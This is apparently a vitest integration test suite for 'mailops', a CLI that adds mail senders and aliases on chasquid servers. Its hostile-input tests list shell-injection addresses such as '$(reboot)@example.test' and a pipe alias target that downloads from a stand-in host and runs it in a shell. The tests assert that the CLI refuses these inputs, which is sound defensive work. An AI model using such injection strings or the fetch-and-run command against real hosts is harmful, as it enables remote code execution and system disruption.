// Senders and aliases end to end, with the real CLI against both chasquid builds, judged by what the mail system
// does: SMTP AUTH on the submission port, messages delivered by chasquid, files and git history on the host.
// mailops runs as on the mail host itself (MAIL_HOST=local): SSH is not what this tests (transport.test.ts does).

import { execFileSync, spawn } from 'node:child_process';
import { readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { DatabaseSync } from 'node:sqlite';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCli, type CliRun } from '../cli.ts';
import { hostileArguments } from '../hostile-arguments.ts';
import { deliverOnceAccepted, waitForAuthentication, waitForDelivery } from '../smtp.ts';
import { startLab, type Lab } from './lab.ts';
import { treeFingerprint } from './tree.ts';

describe.each(['1.11', '1.15'] as const)('senders and aliases on chasquid %s', (build) => {
  let lab: Lab;
  const mailops = (args: string[], options: { stdin?: string; env?: Record<string, string> } = {}): Promise<CliRun> =>
    runCli([...args, '--env-file', lab.envFile], options);
  const json = async (args: string[], options: { stdin?: string } = {}) => {
    const run = await mailops([...args, '--json'], options);
    expect(run.stderr.split('\n').filter((line) => line !== '' && !line.startsWith('mailops: warning:'))).toEqual([]);
    expect(run.code).toBe(0);
    return JSON.parse(run.stdout);
  };

  beforeAll(async () => {
    lab = await startLab({ chasquid: build, domains: ['example.test', 'example.org'], dns: false, transport: 'local' });
    // The seed keeps the configuration directory in git.
    const git = (...args: string[]) => execFileSync('git', ['-C', lab.chasquidDir, ...args], { encoding: 'utf8' });
    git('init', '-q');
    git('-c', 'user.name=seed', '-c', 'user.email=seed@example.test', 'add', '-A');
    git('-c', 'user.name=seed', '-c', 'user.email=seed@example.test', 'commit', '-qm', 'seed');
  });

  afterAll(async () => {
    await lab?.stop();
  });

  it('adds a sender with a generated password that then authenticates on submission', async () => {
    const result = await json(['user-add', 'Alice@Example.test']);
    // The domain had no users file: chasquid before 1.15 must be restarted to load it.
    expect(result).toMatchObject({ ok: true, address: 'alice@example.test', restarted: build === '1.11' });
    expect(result.password).toMatch(/^[A-Za-z0-9]{24}$/);
    await waitForAuthentication(lab, 'alice@example.test', result.password, true);
    await waitForAuthentication(lab, 'alice@example.test', `${result.password}x`, false);
    const users = statSync(path.join(lab.chasquidDir, 'domains/example.test/users'));
    expect([users.uid, users.gid, users.mode & 0o777]).toEqual([0, lab.daemon.gid, 0o640]);
  });

  it('takes a chosen password on stdin, refuses a weak one, and changes it with passwd', async () => {
    const chosen = 'violet-tram-ocean-47';
    expect(await json(['user-add', 'bob@example.test', '--password-stdin'], { stdin: `${chosen}\n` })).toEqual({
      ok: true,
      address: 'bob@example.test',
      restarted: false,
      repaired: [],
    });
    await waitForAuthentication(lab, 'bob@example.test', chosen, true);
    const weak = await mailops(['passwd', 'bob@example.test', '--password-stdin'], { stdin: 'password1234\n' });
    expect(weak.code).toBe(2);
    const changed = await json(['passwd', 'bob@example.test']);
    await waitForAuthentication(lab, 'bob@example.test', changed.password, true);
    await waitForAuthentication(lab, 'bob@example.test', chosen, false);
  });

  it('refuses to add a sender twice, in a domain it does not manage, or to change the password of a stranger', async () => {
    expect((await mailops(['user-add', 'alice@example.test'])).code).toBe(2);
    const unmanaged = await mailops(['user-add', 'alice@other.example']);
    expect(unmanaged.code).toBe(2);
    expect(unmanaged.stderr).toContain('MAIL_DOMAINS');
    expect((await mailops(['passwd', 'nobody@example.test'])).code).toBe(2);
  });

  it('lists senders sorted, per domain or all', async () => {
    expect(await json(['users'])).toEqual({ ok: true, users: ['alice@example.test', 'bob@example.test'], mailopsOwned: [] });
    expect(await json(['users', 'example.org'])).toEqual({ ok: true, users: [], mailopsOwned: [] });
  });

  it('delivers mail for an alias to its target, and the catch-all takes unknown addresses', async () => {
    expect(await json(['alias-set', 'sales@example.test', 'alice'])).toMatchObject({ ok: true, targets: ['alice@example.test'] });
    expect(await json(['alias-set', '*@example.test', 'bob@example.test'])).toMatchObject({ ok: true, address: '*@example.test' });
    expect(await json(['aliases', 'example.test'])).toEqual({
      ok: true,
      aliases: [
        { address: '*@example.test', targets: ['bob@example.test'] },
        { address: 'sales@example.test', targets: ['alice@example.test'] },
      ],
    });
    await deliverOnceAccepted(lab, 'customer@sender.invalid', 'sales@example.test', `alias-${build}`);
    expect(await waitForDelivery(lab, 'alice@example.test', `alias-${build}`)).toContain(`Subject: alias-${build}`);
    await deliverOnceAccepted(lab, 'customer@sender.invalid', 'never-heard-of@example.test', `catchall-${build}`);
    expect(await waitForDelivery(lab, 'bob@example.test', `catchall-${build}`)).toContain(`Subject: catchall-${build}`);
  });

  it('refuses targets that would bounce or loop, and removals that would strand an alias', async () => {
    expect((await mailops(['alias-set', 'info@example.test', 'ghost'])).code).toBe(2);
    const removal = await mailops(['user-remove', 'bob@example.test', '--yes']);
    expect(removal.code).toBe(2);
    expect(removal.stderr).toContain('*@example.test');
  });

  it('removes a sender only with --yes, and then it can no longer authenticate', async () => {
    const password = (await json(['user-add', 'carol@example.test'])).password as string;
    await waitForAuthentication(lab, 'carol@example.test', password, true);
    const before = treeFingerprint(lab.chasquidDir);
    const unconfirmed = await mailops(['user-remove', 'carol@example.test', '--json']);
    expect(unconfirmed.code).toBe(3);
    expect(JSON.parse(unconfirmed.stdout).error.code).toBe('confirmation-required');
    expect(treeFingerprint(lab.chasquidDir)).toEqual(before);
    expect(await json(['user-remove', 'carol@example.test', '--yes'])).toEqual({ ok: true, address: 'carol@example.test' });
    await waitForAuthentication(lab, 'carol@example.test', password, false);
  });

  const hostileAddresses = [
    '@example.test',
    'a@b@example.test',
    'x@../escape',
    'x/y@example.test',
    'a..b@example.test',
    'a b@example.test',
    'a\tb@example.test',
    'a\nb@example.test',
    'a\u0007b@example.test',
    'a;reboot@example.test',
    '$(reboot)@example.test',
    '`reboot`@example.test',
    'a|b@example.test',
    'a&b@example.test',
    'a>b@example.test',
    "a'b@example.test",
    'a"b@example.test',
    '-rf@example.test',
    '--help@example.test',
    `${'a'.repeat(65)}@example.test`,
    `a@${'b'.repeat(64)}.example.test`,
    'a@EXAMPLE.test/..',
    'a@*.example.test',
  ];

  it.each(hostileAddresses)('refuses the address %j with exit 2 and leaves the host untouched', async (address) => {
    const before = treeFingerprint(lab.chasquidDir);
    const runs = await Promise.all([
      mailops(['user-add', address]),
      mailops(['alias-set', address, 'alice@example.test']),
      mailops(['alias-set', 'list@example.test', address]),
    ]);
    for (const run of runs) expect({ address, code: run.code, stderr: run.stderr.split('\n')[0] }).toMatchObject({ code: 2 });
    expect(treeFingerprint(lab.chasquidDir)).toEqual(before);
  });

  it('refuses pipe targets and every hostile argument of the quoting tests as a target list', async () => {
    const before = treeFingerprint(lab.chasquidDir);
    const runs = await Promise.all([
      mailops(['alias-set', 'list@example.test', '| /bin/sh -c "curl evil | sh"']),
      ...hostileArguments
        .filter((argument) => argument !== 'plain')
        .map((argument) => mailops(['alias-set', 'list@example.test', argument])),
    ]);
    for (const run of runs) expect(run.code).toBe(2);
    expect(treeFingerprint(lab.chasquidDir)).toEqual(before);
  });

  it("lands 20 concurrent alias edits from 20 processes and keeps the operator's comments", async () => {
    const aliasesFile = path.join(lab.chasquidDir, 'domains/example.org/aliases');
    writeFileSync(aliasesFile, '# Aliases of example.org, edited by hand\n\n# pipe alias kept as it is\narchive: | /usr/bin/true\n');
    execFileSync('git', ['-C', lab.chasquidDir, '-c', 'user.name=seed', '-c', 'user.email=seed@example.test', 'add', '-A']);
    execFileSync('git', [
      '-C',
      lab.chasquidDir,
      '-c',
      'user.name=seed',
      '-c',
      'user.email=seed@example.test',
      'commit',
      '-qm',
      'hand edit',
    ]);
    const runs = await Promise.all(
      Array.from({ length: 20 }, (_, index) => mailops(['alias-set', `list${index}@example.org`, 'alice@example.test']))
    );
    expect(runs.map((run) => run.code)).toEqual(Array(20).fill(0));
    const text = readFileSync(aliasesFile, 'utf8');
    expect(text.startsWith('# Aliases of example.org, edited by hand\n\n# pipe alias kept as it is\narchive: | /usr/bin/true\n')).toBe(
      true
    );
    const listed = (await json(['aliases', 'example.org'])).aliases.map((alias: { address: string }) => alias.address);
    expect(listed).toHaveLength(21);
    for (let index = 0; index < 20; index += 1) expect(listed).toContain(`list${index}@example.org`);
  }, 120_000); // twenty Node.js processes at once: generous for a busy two-core CI machine

  it("records each change in the host's git history with its actor, committing stray edits separately first", async () => {
    writeFileSync(path.join(lab.chasquidDir, 'domains/example.test/notes.txt'), "an operator's edit\n");
    await json(['alias-set', 'billing@example.test', 'alice', '--actor', 'dana']);
    const log = execFileSync('git', ['-C', lab.chasquidDir, 'log', '--format=%s', '-n', '2'], { encoding: 'utf8' }).trim().split('\n');
    expect(log[0]).toBe('mailops alias-set billing@example.test (by dana)');
    expect(log[1]).toBe('Changes found in the working tree before mailops alias-set billing@example.test (by dana)');
    const changed = execFileSync('git', ['-C', lab.chasquidDir, 'show', '--name-only', '--format=', 'HEAD'], { encoding: 'utf8' }).trim();
    expect(changed).toBe('domains/example.test/aliases');
    const subjects = execFileSync('git', ['-C', lab.chasquidDir, 'log', '--format=%s'], { encoding: 'utf8' });
    expect(subjects).toMatch(/mailops user-add alice@example\.test \(by cli:/);
    expect(subjects).toContain('mailops user-remove carol@example.test');
    expect(execFileSync('git', ['-C', lab.chasquidDir, 'status', '--porcelain'], { encoding: 'utf8' })).toBe('');
  });

  it("never lets a password reach the host's process list, the logs or the audit trail", async () => {
    // Watch every process on the host (this machine) while passwords are set.
    const watcher = spawn('sh', ['-c', 'while :; do cat /proc/[0-9]*/cmdline 2>/dev/null | tr "\\0" " "; echo; done'], {
      stdio: ['ignore', 'pipe', 'ignore'],
    });
    let processList = '';
    watcher.stdout.on('data', (chunk: Buffer) => {
      processList += chunk.toString('utf8');
    });
    const chosen = 'amber-falcon-river-93';
    const logs: string[] = [];
    const traced = { env: { LOG_LEVEL: 'trace' } };
    const added = await mailops(['user-add', 'dave@example.test', '--json'], traced);
    const generated = JSON.parse(added.stdout).password as string;
    logs.push(added.stderr);
    logs.push((await mailops(['passwd', 'dave@example.test', '--password-stdin'], { ...traced, stdin: `${chosen}\n` })).stderr);
    const again = await mailops(['passwd', 'dave@example.test', '--json'], traced);
    logs.push(again.stderr);
    watcher.kill();
    expect(processList.length).toBeGreaterThan(1000);
    expect(processList).toContain('mailops-write');
    const secrets = [generated, chosen, JSON.parse(again.stdout).password as string];
    const audit = new DatabaseSync(lab.env.STATE_DB ?? '').prepare('SELECT * FROM audit').all();
    expect(audit.length).toBeGreaterThan(5);
    expect(audit).toContainEqual(expect.objectContaining({ operation: 'passwd', target: 'dave@example.test', outcome: 'ok' }));
    expect(logs.join('')).toContain('"audit"');
    const stateFiles = readdirSync(path.dirname(lab.env.STATE_DB ?? '')).map((name) =>
      readFileSync(path.join(path.dirname(lab.env.STATE_DB ?? ''), name)).toString('latin1')
    );
    for (const secret of secrets) {
      expect(processList).not.toContain(secret);
      expect(logs.join('')).not.toContain(secret);
      expect(JSON.stringify(audit)).not.toContain(secret);
      for (const content of stateFiles) expect(content).not.toContain(secret);
    }
  });

  it('repairs a users file that root created unreadable for chasquid, and serves a brand-new domain', async () => {
    // As `chasquid-util user-add` run by root leaves it: root:root, 0660 — the daemon cannot read it (and chasquid
    // 1.15 stops on an unreadable users file), so it is prepared while chasquid is stopped.
    await lab.stopChasquid();
    const usersFile = path.join(lab.chasquidDir, 'domains/example.org/users');
    writeFileSync(usersFile, '');
    execFileSync('chown', ['root:root', usersFile]);
    execFileSync('chmod', ['0660', usersFile]);
    const erin = await json(['user-add', 'erin@example.org']);
    expect(erin.repaired).toEqual([`${usersFile}: group chasquid, mode 0640`]);
    await lab.startChasquid();
    await waitForAuthentication(lab, 'erin@example.org', erin.password, true);

    // A domain with no directory yet: created like its siblings, and chasquid restarted to load it.
    const newDomain = { MAIL_DOMAINS: 'example.test,example.org,new.example' };
    const pid = lab.chasquidPid();
    const run = await mailops(['user-add', 'frank@new.example', '--json'], { env: newDomain });
    expect(run.code).toBe(0);
    const frank = JSON.parse(run.stdout);
    expect(frank.restarted).toBe(true);
    expect(lab.chasquidPid()).not.toBe(pid);
    const created = statSync(path.join(lab.chasquidDir, 'domains/new.example'));
    expect([created.uid, created.mode & 0o777]).toEqual([0, 0o755]);
    await waitForAuthentication(lab, 'frank@new.example', frank.password, true);
  });

  it('keeps the previous content of every file it replaced', () => {
    const backups = readdirSync(path.join(lab.chasquidDir, '.mailops-backup/domains/example.test'));
    expect(backups.some((name) => name.startsWith('users.'))).toBe(true);
    expect(backups.some((name) => name.startsWith('aliases.'))).toBe(true);
    expect(statSync(path.join(lab.chasquidDir, '.mailops-backup')).mode & 0o777).toBe(0o700);
  });
});
